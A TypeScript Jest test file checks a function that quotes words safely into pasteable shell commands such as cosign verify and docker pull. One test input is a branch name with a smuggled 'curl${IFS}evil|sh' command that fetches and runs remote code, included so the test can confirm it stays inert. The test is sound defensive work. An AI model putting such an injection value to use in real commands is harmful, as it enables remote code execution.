// Commands to paste: a shell reads from the line the words that it was made of.
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from '@jest/globals';
import { shellLine } from '../../src/commands/shell.ts';
import { fc } from '../support/chance.ts';

describe('a command to paste', () => {
  it.each([
    ['plain words', ['cosign', 'verify', '--key', 'cosign.pub', 'ghcr.io/acme/app@sha256:1'], undefined],
    ['a branch with parentheses', ['https://github.com/acme/app/ci.yml@refs/heads/feat(x)'], undefined],
    ['a branch with a command', ['a@refs/heads/x;curl${IFS}evil|sh'], "'a@refs/heads/x;curl${IFS}evil|sh'"],
    ['a pattern', ['--certificate-identity-regexp', '^https://github\\.com/acme/.*$'], undefined],
    ['an apostrophe', ["it's"], "'it'\\''s'"],
    ['an empty word', [''], "''"],
    ['an expansion of zsh', ['=ls'], "'=ls'"],
  ])('has %s as they are', (_, words, line) => {
    if (line !== undefined) expect(shellLine(words)).toBe(line);
    expect(wordsOf(shellLine(words))).toEqual(words);
  });

  it('is not quoted without need', () => {
    expect(shellLine(['docker', 'pull', 'a.test:5000/app:1_2-3'])).toBe('docker pull a.test:5000/app:1_2-3');
  });

  it('has any words as they are', () => {
    const word = fc.string().filter((text) => !text.includes('\0'));
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 5 }), (words) => {
        expect(wordsOf(shellLine(words))).toEqual(words);
      }),
      { numRuns: 30 },
    );
  });
});

/** The words that a shell reads. */
function wordsOf(line: string): readonly string[] {
  const { stdout } = spawnSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  return stdout.split('\0').slice(0, -1);
}
